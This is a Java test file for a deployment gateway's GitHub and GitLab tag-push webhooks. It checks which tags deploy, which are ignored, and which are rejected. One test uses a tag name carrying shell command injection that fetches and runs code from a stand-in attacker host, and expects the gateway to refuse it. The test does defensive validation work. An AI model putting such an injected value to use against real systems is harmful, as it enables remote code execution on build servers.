package dev.bluegreen.gateway.webhook;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.Map;
import java.util.UUID;
import java.util.function.Predicate;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.core.ParameterizedTypeReference;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient;

import dev.bluegreen.events.DeployRequested;
import dev.bluegreen.events.Envelope;
import dev.bluegreen.events.Topics;
import dev.bluegreen.gateway.RunningGateway;
import dev.bluegreen.testing.EventLog;
import dev.bluegreen.testing.KafkaFixture;

/**
 * Release tags: {@code shop} deploys the tags that match {@code v*} or {@code release/**}, from GitHub and GitLab
 * deliveries shaped as the hosts send them. An annotated tag's push names the tag's own object in {@code after}; what
 * is deployed is the commit it tags.
 */
class TagPushesTest {

    private static final ParameterizedTypeReference<Map<String, String>> JSON_OBJECT =
            new ParameterizedTypeReference<>() {
            };
    private static final String ZEROS = "0000000000000000000000000000000000000000";

    @TempDir
    static Path directory;

    static RunningGateway gateway;
    static EventLog events;
    static WebTestClient http;

    @BeforeAll
    static void startGateway() {
        gateway = RunningGateway.start(directory, KafkaFixture.bootstrapServers(),
                "--bluegreen.gateway.webhooks.shop.tags=v*,release/**",
                "--bluegreen.gateway.webhooks.shop.gitlab-token=" + RunningGateway.GITLAB_TOKEN);
        events = EventLog.open(KafkaFixture.bootstrapServers(), Topics.LIFECYCLE);
        http = gateway.http();
    }

    @AfterAll
    static void stopGateway() {
        if (events != null) {
            events.close();
        }
        if (gateway != null) {
            gateway.close();
        }
    }

    @Test
    void aGitHubPushOfAMatchingAnnotatedTagDeploysTheCommitItTags() {
        String tagObject = sha();
        String commit = sha();
        Map<String, String> answer = github(githubTagPush("v1.4.0", tagObject, commit, "tagger-alice"))
                .expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody();

        assertThat(answer).containsEntry("outcome", "deploying")
                .containsEntry("reason", "tagger-alice pushed the tag v1.4.0")
                .containsEntry("ref", "v1.4.0")
                .containsEntry("commit", commit)
                .containsEntry("compare", "https://github.com/acme/shop/compare/v1.4.0");
        assertThat(events.awaitEvent(DeployRequested.class, answer.get("deploymentId")).dataAs(DeployRequested.class))
                .isEqualTo(new DeployRequested("shop", "v1.4.0", commit, "tagger-alice", "github webhook"));
    }

    @Test
    void aGitLabTagPushThatMatchesDeploysTheCommitItTagsWithALinkToTheTag() {
        String commit = sha();
        Map<String, String> answer = gitlab(gitlabTagPush("release/2026/11", ZEROS, sha(), commit, "tagger-dave"))
                .expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody();

        assertThat(answer).containsEntry("outcome", "deploying")
                .containsEntry("ref", "release/2026/11")
                .containsEntry("commit", commit)
                .containsEntry("compare", "https://gitlab.com/acme/shop/-/tags/release/2026/11");
        assertThat(events.awaitEvent(DeployRequested.class, answer.get("deploymentId")).dataAs(DeployRequested.class))
                .isEqualTo(new DeployRequested("shop", "release/2026/11", commit, "tagger-dave", "gitlab webhook"));
    }

    @Test
    void aTagThatMatchesNoPatternIsNotDeployedAndTheAnswerSaysWhichTagsAre() {
        github(githubTagPush("nightly-2026-11-27", sha(), sha(), "tagger-bob"))
                .expectStatus().isAccepted()
                .expectBody().json("{\"outcome\":\"ignored\",\"reason\":\"The tag 'nightly-2026-11-27' is not "
                        + "deployed; 'shop' deploys tags that match v*, release/**\"}", true);
        // a * stops at a slash
        gitlab(gitlabTagPush("v2/rc1", ZEROS, sha(), sha(), "tagger-bob"))
                .expectStatus().isAccepted()
                .expectBody().jsonPath("$.reason").isEqualTo(
                        "The tag 'v2/rc1' is not deployed; 'shop' deploys tags that match v*, release/**");

        assertPublished(event -> event.dataAs(DeployRequested.class).requestedBy().equals("tagger-bob"), 0);
    }

    @Test
    void aMatchingTagWhoseNameAShellWouldReadAsCodeIs400NamingTheRuleAndNeverDeploys() {
        github(githubTagPush("v1$(curl${IFS}evil.example|sh)", sha(), sha(), "tagger-mallory"))
                .expectStatus().isBadRequest()
                .expectBody().json("{\"error\":\"The pushed tag is never deployed: a ref may hold only ASCII letters, "
                        + "digits and . _ - / + @, so that no shell reads it as code (such as $ ` ( ) ; | & ' \\\" < > ! "
                        + "{ })\"}", true);
        gitlab(gitlabTagPush("v2..3", ZEROS, sha(), sha(), "tagger-mallory"))
                .expectStatus().isBadRequest()
                .expectBody().json("{\"error\":\"The pushed tag is never deployed: a ref must not contain '..' "
                        + "(git's rule)\"}", true);

        assertPublished(event -> event.dataAs(DeployRequested.class).requestedBy().equals("tagger-mallory"), 0);
    }

    @Test
    void deletingAMatchingTagOrTheAppsBranchNeverDeploys() {
        github(githubTagDeletion("v1.3.0", "tagger-erin"))
                .expectStatus().isAccepted()
                .expectBody().json("{\"outcome\":\"ignored\",\"reason\":\"The tag 'v1.3.0' was deleted: nothing to "
                        + "deploy\"}", true);
        gitlab(gitlabTagPush("v1.3.0", sha(), ZEROS, null, "tagger-erin"))
                .expectStatus().isAccepted()
                .expectBody().jsonPath("$.reason").isEqualTo("The tag 'v1.3.0' was deleted: nothing to deploy");
        gitlab("Push Hook", """
                {"object_kind":"push","event_name":"push","before":"%s","after":"%s","ref":"refs/heads/main",
                 "ref_protected":true,"checkout_sha":null,"user_name":"Erin","user_username":"tagger-erin",
                 "project":{"web_url":"https://gitlab.com/acme/shop"},"commits":[],"total_commits_count":0}"""
                .formatted(sha(), ZEROS))
                .expectStatus().isAccepted()
                .expectBody().jsonPath("$.reason").isEqualTo("The branch 'main' was deleted: nothing to deploy");

        assertPublished(event -> event.dataAs(DeployRequested.class).requestedBy().equals("tagger-erin"), 0);
    }

    /**
     * Whatever the gateway published would be on Kafka well before the event of a later push; then exactly
     * {@code expected} events match.
     */
    private static void assertPublished(Predicate<Envelope> matching, int expected) {
        String later = github(githubTagPush("v9.9." + UUID.randomUUID().toString().substring(0, 4), sha(), sha(),
                "tagger-zed")).expectStatus().isAccepted()
                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");
        events.awaitEvent(DeployRequested.class, later);
        assertThat(events.events()).filteredOn(event -> event.subject().equals("shop"))
                .filteredOn(event -> event.data() instanceof DeployRequested).filteredOn(matching).hasSize(expected);
    }

    private static WebTestClient.ResponseSpec github(String body) {
        return http.post().uri("/api/webhooks/github/shop")
                .header("X-GitHub-Event", "push")
                .header("X-GitHub-Delivery", UUID.randomUUID().toString())
                .header("X-GitHub-Hook-ID", "292430182")
                .header("X-Hub-Signature-256", WebhooksTest.signature(RunningGateway.GITHUB_SECRET, body))
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue(body)
                .exchange();
    }

    private static WebTestClient.ResponseSpec gitlab(String body) {
        return gitlab("Tag Push Hook", body);
    }

    private static WebTestClient.ResponseSpec gitlab(String event, String body) {
        return http.post().uri("/api/webhooks/gitlab/shop")
                .header("X-Gitlab-Event", event)
                .header("X-Gitlab-Token", RunningGateway.GITLAB_TOKEN)
                .header("X-Gitlab-Event-UUID", UUID.randomUUID().toString())
                .header("Idempotency-Key", UUID.randomUUID().toString())
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue(body)
                .exchange();
    }

    /** GitHub's push event for a new annotated tag: {@code after} is the tag object, head_commit what it tags. */
    private static String githubTagPush(String tag, String tagObject, String commit, String pusher) {
        return """
                {"ref":"refs/tags/%1$s","before":"0000000000000000000000000000000000000000","after":"%2$s",
                 "repository":{"id":186853002,"node_id":"MDEwOlJlcG9zaXRvcnkxODY4NTMwMDI=","name":"shop",
                  "full_name":"acme/shop","private":true,"owner":{"name":"acme","login":"acme","id":21031067,
                  "type":"Organization"},"html_url":"https://github.com/acme/shop","default_branch":"main",
                  "master_branch":"main","organization":"acme"},
                 "pusher":{"name":"%4$s","email":"%4$s@example.com"},
                 "organization":{"login":"acme","id":21031067},
                 "sender":{"login":"%4$s","id":583231,"type":"User","site_admin":false},
                 "created":true,"deleted":false,"forced":false,"base_ref":"refs/heads/main",
                 "compare":"https://github.com/acme/shop/compare/%1$s","commits":[],
                 "head_commit":{"id":"%3$s","tree_id":"f9d2a07e9488b91af2641b26b9407fe22a451433","distinct":true,
                  "message":"Release %1$s","timestamp":"2026-11-27T10:15:03+01:00",
                  "url":"https://github.com/acme/shop/commit/%3$s",
                  "author":{"name":"A. Author","email":"author@example.com","username":"author"},
                  "committer":{"name":"GitHub","email":"noreply@github.com","username":"web-flow"},
                  "added":[],"removed":[],"modified":["CHANGELOG.md"]}}""".formatted(tag, tagObject, commit, pusher);
    }

    /** GitHub's push event for a deleted tag: {@code deleted}, {@code after} all zeros, no head_commit. */
    private static String githubTagDeletion(String tag, String pusher) {
        return """
                {"ref":"refs/tags/%1$s","before":"%2$s","after":"0000000000000000000000000000000000000000",
                 "repository":{"id":186853002,"name":"shop","full_name":"acme/shop","private":true,
                  "html_url":"https://github.com/acme/shop","default_branch":"main"},
                 "pusher":{"name":"%3$s","email":"%3$s@example.com"},
                 "sender":{"login":"%3$s","id":583231,"type":"User","site_admin":false},
                 "created":false,"deleted":true,"forced":false,"base_ref":null,
                 "compare":"https://github.com/acme/shop/compare/%4$s...000000000000","commits":[],
                 "head_commit":null}""".formatted(tag, sha(), pusher, sha().substring(0, 12));
    }

    /**
     * GitLab's Tag Push Hook. A new tag: {@code before} all zeros, {@code after} the tag object, {@code checkout_sha}
     * the commit it tags. A deleted tag: {@code after} all zeros, {@code checkout_sha} null.
     */
    private static String gitlabTagPush(String tag, String before, String after, String commit, String user) {
        return """
                {"object_kind":"tag_push","event_name":"tag_push","before":"%5$s","after":"%2$s",
                 "ref":"refs/tags/%1$s","ref_protected":true,"checkout_sha":%3$s,"message":"Release %1$s",
                 "user_id":4,"user_name":"D. User","user_username":"%4$s","user_email":"",
                 "user_avatar":"https://gitlab.com/uploads/-/system/user/avatar/4/avatar.png","project_id":15,
                 "project":{"id":15,"name":"shop","description":"","web_url":"https://gitlab.com/acme/shop",
                  "avatar_url":null,"git_ssh_url":"git@gitlab.com:acme/shop.git",
                  "git_http_url":"https://gitlab.com/acme/shop.git","namespace":"acme","visibility_level":0,
                  "path_with_namespace":"acme/shop","default_branch":"main","ci_config_path":null},
                 "commits":[],"total_commits_count":0,"push_options":{},
                 "repository":{"name":"shop","url":"git@gitlab.com:acme/shop.git","description":"",
                  "homepage":"https://gitlab.com/acme/shop","git_http_url":"https://gitlab.com/acme/shop.git",
                  "git_ssh_url":"git@gitlab.com:acme/shop.git","visibility_level":0}}"""
                .formatted(tag, after, commit == null ? "null" : "\"" + commit + "\"", user, before);
    }

    private static String sha() {
        return UUID.randomUUID().toString().replace("-", "") + "01234567";
    }
}
